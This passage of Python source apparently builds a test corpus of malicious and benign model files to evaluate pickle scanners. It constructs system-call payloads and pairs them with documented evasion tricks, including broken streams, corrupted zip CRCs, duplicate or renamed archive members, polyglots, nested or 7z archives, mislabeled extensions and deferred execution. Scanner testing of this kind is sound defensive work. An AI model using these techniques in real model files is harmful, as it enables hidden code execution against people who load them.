    "ReversingLabs nullifAI (Feb 2025): the stream breaks right after the payload",
    expect_error=True,
)
_m(
    "broken_truncated_after_reduce",
    "broken-stream",
    "pickle",
    lambda m: proto(4) + call(sg("posix", "system"), u(sh(m))) + u("unterminated")[:-4],
    "benign_broken_stream",
    "nullifAI / fickling issue #138: truncation after the payload",
    expect_error=True,
)
_m(
    "broken_torch_zip_data_pkl",
    "broken-stream",
    "torch",
    lambda m: _torch_zip_with(proto(2) + call(g("posix", "system"), u(sh(m))) + b"\x00\x01"),
    "benign_torch_zip",
    "nullifAI: torch checkpoint whose data.pkl breaks after the payload",
    suffix=".pt",
    expect_error=True,
)
_m(
    "nullifai_7z_torch",
    "broken-stream",
    "archive",
    lambda m: _sevenzip(
        [
            (
                "pytorch_model.bin",
                _torch_zip_with(proto(2) + call(g("posix", "system"), u(sh(m))) + b"\x00"),
            )
        ]
    ),
    "benign_torch_zip_in_7z",
    "nullifAI (ReversingLabs, Feb 2025): 7z-compressed PyTorch file + broken pickle; "
    "picklescan skipped 7z",
    suffix=".7z",
    expect_error=True,
)

# ===== multiple pickles =====================================================================

_m(
    "multi_pickle_second_stream",
    "multi-pickle",
    "pickle_stream",
    lambda m: pickle.dumps(_OD, 4) + _system_pickle(m, 4),
    "benign_multi_pickle_stream",
    "picklescan malicious6: payload in the second pickle of the file",
)
_m(
    "legacy_torch_payload_in_sys_info",
    "multi-pickle",
    "torch",
    lambda m: _legacy_torch_with(2, _system_pickle(m, 2)),
    "benign_torch_legacy",
    "legacy torch files are 5 pickles; the 3rd (sys_info) is executed too",
    suffix=".pt",
)
_m(
    "legacy_torch_payload_in_magic",
    "multi-pickle",
    "torch",
    lambda m: _legacy_torch_with(0, _system_pickle(m, 2)),
    "benign_torch_legacy",
    "the very first pickle (magic number) is loaded before any check",
    suffix=".pt",
    expect_error=True,
)
_m(
    "torch_legacy_tar_storages",
    "container",
    "torch",
    lambda m: _tar(
        [
            ("storages", _system_pickle(m, 2)),
            ("tensors", pickle.dumps(0, 2)),
            ("pickle", pickle.dumps({}, 2)),
        ]
    ),
    "benign_torch_legacy_tar",
    "torch.load still accepts the pre-1.0 tar layout and unpickles its 'storages' member",
    suffix=".tar",
    expect_error=True,
)

# ===== torch zip container tricks ===========================================================


def _corrupt_crc(data: bytes, member: str) -> bytes:
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo(member)
    good = struct.pack("<I", info.CRC)
    return data.replace(good, struct.pack("<I", info.CRC ^ 0xFFFFFFFF))


def _rename_local_header(data: bytes, member: str, new: str) -> bytes:
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo(member)
    b = bytearray(data)
    off = info.header_offset
    (nlen,) = struct.unpack("<H", b[off + 26 : off + 28])
    assert len(new) == nlen
    b[off + 30 : off + 30 + nlen] = new.encode()
    return bytes(b)


_m(
    "torch_zip_data_pkl_payload",
    "container",
    "torch",
    lambda m: _torch_zip_with(_system_pickle(m, 2)),
    "benign_torch_zip",
    "the standard .pt layout with a malicious data.pkl (baseline)",
    suffix=".pt",
)
_m(
    "torch_zip_weights_only_fallback",
    "container",
    "torch_fallback",
    lambda m: _torch_zip_with(_system_pickle(m, 2)),
    "benign_torch_zip",
    "weights_only=True refuses, the caller retries with weights_only=False (stanza advisory, 2025)",
    suffix=".pt",
    note="executes in code that falls back to an unsafe load when the safe one fails",
)
_m(
    "torch_zip_bad_crc",
    "container",
    "torch",
    lambda m: _corrupt_crc(_torch_zip_with(_system_pickle(m, 2)), "archive/data.pkl"),
    "benign_torch_zip",
    "CVE-2025-10156 (JFrog): Python's zipfile raises on the CRC, torch's reader does not check",
    suffix=".pt",
)
_m(
    "torch_zip_local_header_name_mismatch",
    "container",
    "torch",
    lambda m: _rename_local_header(
        _torch_zip_with(_system_pickle(m, 2)), "archive/data.pkl", "archive/datX.pkl"
    ),
    "benign_torch_zip",
    "CVE-2025-1944 (Sonatype): local-header name differs from the central directory; "
    "zipfile raises, torch loads",
    suffix=".pt",
)
_m(
    "torch_zip_duplicate_data_pkl",
    "container",
    "torch",
    lambda m: _zip(
        [(n, d) for n, d in _zip_members(_torch_save(_state_dict()))]
        + [("archive/data.pkl", _system_pickle(m, 2))]
    ),
    "benign_torch_zip",
    "duplicate member names: torch and zipfile take the LAST entry; scanners that stream "
    "local headers or keep the first see the benign one",
    suffix=".pt",
)
_m(
    "torch_zip_other_prefix_with_decoy",
    "container",
    "torch",
    lambda m: _zip(
        [("payload/data.pkl", _system_pickle(m, 2))]
        + [
            (n.replace("archive/", "payload/", 1), d)
            for n, d in _zip_members(_torch_save(_state_dict()))
            if not n.endswith("/data.pkl")
        ]
        + [("payload/archive/data.pkl", pickle.dumps(_OD, 2))]
    ),
    "benign_torch_zip_custom_prefix",
    "torch reads <first member's folder>/data.pkl; a decoy .../archive/data.pkl satisfies "
    "scanners that match the conventional archive/data.pkl path",
    suffix=".pt",
)
_m(
    "polyglot_pickle_then_torch_zip",
    "polyglot",
    "torch",
    lambda m: _system_pickle(m, 2) + _torch_save(_state_dict()),
    "benign_torch_zip",
    "zipfile.is_zipfile is true (benign data.pkl inside) but torch only treats files *starting* "
    "with PK as zip and unpickles the prepended payload",
    suffix=".pt",
    expect_error=True,
)
_m(
    "polyglot_zip_inside_pickle",
    "polyglot",
    "pickle",
    lambda m: (
        proto(4)
        + bb(_torch_save(_state_dict()))
        + POP
        + call(sg("posix", "system"), u(sh(m)))
        + STOP
    ),
    "benign_torch_zip",
    "a whole torch zip carried as BINBYTES: zipfile opens the file as a zip, pickle runs the "
    "code after it",
)
_m(
    "nested_zip_pickle",
    "container",
    "archive",
    lambda m: _zip([("inner.zip", _zip([("model.pkl", _system_pickle(m, 4))]))]),
    "benign_nested_zip",
    "nested archives (picklescan/modelscan scan one level)",
    suffix=".zip",
)
_m(
    "sevenzip_pickle",
    "container",
    "archive",
    lambda m: _sevenzip([("model.pkl", _system_pickle(m, 4))]),
    "benign_torch_zip_in_7z",
    "7z wrapper (nullifAI; picklescan issue on 7z)",
    suffix=".7z",
)
_m(
    "tar_gz_pickle",
    "container",
    "archive",
    lambda m: _tar([("model.pkl", _system_pickle(m, 4))], "w:gz"),
    "benign_pickle_in_tar_gz",
    "tar.gz wrapper ('Art of Hide and Seek' loading paths: archives unpacked by pipelines)",
    suffix=".tar.gz",
)

# ===== numpy ================================================================================

_m(
    "npy_object_array_payload",
    "numpy",
    "numpy",
    lambda m: _np_save(_object_array(1.0, _os_system(m))),
    "benign_npy_object_array",
    "object arrays are pickles (picklescan dns_exfiltration.npy)",
    suffix=".npy",
)
_m(
    "npy_v3_header_object_array",
    "numpy",
    "numpy",
    lambda m: _np_save(_object_array(_os_system(m)), version=(3, 0)),
    "benign_npy_v3_header",
    ".npy format 3.0 header in front of the pickle",
    suffix=".npy",
)
_m(
    "npz_object_member",
    "numpy",
    "numpy",
    lambda m: _np_savez(False, w=__import__("numpy").ones(3), names=_object_array(_os_system(m))),
    "benign_npz",
    "an .npz member holding an object array (executes when the member is read)",
    suffix=".npz",
)
_m(
    "npz_compressed_object_member",
    "numpy",
    "numpy",
    lambda m: _np_savez(True, w=__import__("numpy").ones(3), names=_object_array(_os_system(m))),
    "benign_npz_compressed",
    "savez_compressed: the pickle is deflated inside the zip",
    suffix=".npz",
)
_m(
    "npy_named_raw_pickle",
    "mislabeled",
    "numpy",
    lambda m: _system_pickle(m, 4),
    "benign_pickle_named_npy",
    "numpy.load(allow_pickle=True) unpickles anything without the .npy/.npz magic",
    suffix=".npy",
)

# ===== joblib ===============================================================================

for _c, _arg in _JOBLIB_COMPRESS.items():
    _m(
        f"joblib_{_c}_payload",
        "joblib",
        "joblib",
        lambda m, _arg=_arg: _joblib_dump({"model": _estimator(), "hook": _os_system(m)}, _arg),
        f"benign_joblib_{_c}",
        f"joblib.dump(compress={_arg!r}); picklescan TODO list (joblib.load)",
        suffix=".joblib",
    )
_m(
    "joblib_object_array_payload",
    "joblib",
    "joblib",
    lambda m: _joblib_dump({"coef": _object_array(0.5, _os_system(m))}),
    "benign_joblib_none",
    "joblib stores numpy object arrays as an embedded pickle after its array wrapper",
    suffix=".joblib",
)
_m(
    "joblib_predict_deferred",
    "deferred-execution",
    "joblib_predict",
    lambda m: _joblib_dump(_deferred_estimator(m)),
    "benign_joblib_sklearn_predict",
    "Trail of Bits 'Sleepy Pickle' (2024): the model is altered, the payload runs on use",
    suffix=".joblib",
    note="loading alone does nothing; predict() runs timeit's setup code, then raises",
    expect_error=True,
)


def _deferred_estimator(marker: Path) -> Any:
    import functools
    import timeit

    est = _estimator()
    est.predict = functools.partial(timeit.timeit, "pass", code(marker))
    return est


# ===== pandas ===============================================================================

for _c, _sfx in _PANDAS_SUFFIXES.items():
    _m(
        f"pandas_{_c}_payload",
        "pandas",
        "pandas",
        lambda m, _sfx=_sfx: _pandas_pickle({"frame": _dataframe(), "hook": _os_system(m)}, _sfx),
        f"benign_pandas_{_c}",
        f"pandas.read_pickle infers {_sfx} compression ('Art of Hide and Seek' loading paths)",
        suffix=_sfx,
    )
_m(
    "pandas_object_column_payload",
    "pandas",
    "pandas",
    lambda m: _pandas_pickle(__import__("pandas").DataFrame({"x": [1, _os_system(m)]}), ".pkl"),
    "benign_pandas_plain",
    "an object column of a DataFrame carries the payload",
)

# ===== mislabeled extensions ================================================================

for _sfx, _loader in ((".txt", "pickle"), (".json", "joblib"), (".h5", "torch")):
    _m(
        f"mislabeled{_sfx.replace('.', '_')}",
        "mislabeled",
        _loader,
        lambda m: _system_pickle(m, 4),
        f"benign_pickle_named{_sfx.replace('.', '_')}",
        "CVE-2025-1889 / CVE-2025-10155: scanners chose what to scan by file extension",
        suffix=_sfx,
        expect_error=_loader == "torch",
    )
_m(
    "mislabeled_safetensors",
    "mislabeled",
    "pickle",
    lambda m: _system_pickle(m, 4),
    "benign_pickle_named_safetensors",
    "CVE-2025-10155: a pickle named like a safe format",
    suffix=".safetensors",
    note="torch>=2.13 torch.load() hands *.safetensors paths to safetensors, so the victim "
    "here is plain pickle/joblib code",
)

ALL: list[Sample] = MALICIOUS + BENIGN


def _check() -> None:
    names = [s.name for s in ALL]
    dupes = {n for n in names if names.count(n) > 1}
    assert not dupes, dupes
    benign = {s.name for s in BENIGN}
    for s in MALICIOUS:
        assert s.twin in benign, (s.name, s.twin)
        assert s.loader in LOADERS, (s.name, s.loader)
    for s in BENIGN:
        assert s.loader in LOADERS, (s.name, s.loader)


_check()


def write_corpus(folder: Path, marker: Path) -> dict[str, Path]:
    """Write every sample into ``folder``; return ``name -> file``."""
    folder.mkdir(parents=True, exist_ok=True)
    out: dict[str, Path] = {}
    for s in ALL:
        path = folder / f"{s.name}{s.suffix}"
        path.write_bytes(s.build(marker))
        out[s.name] = path
    return out
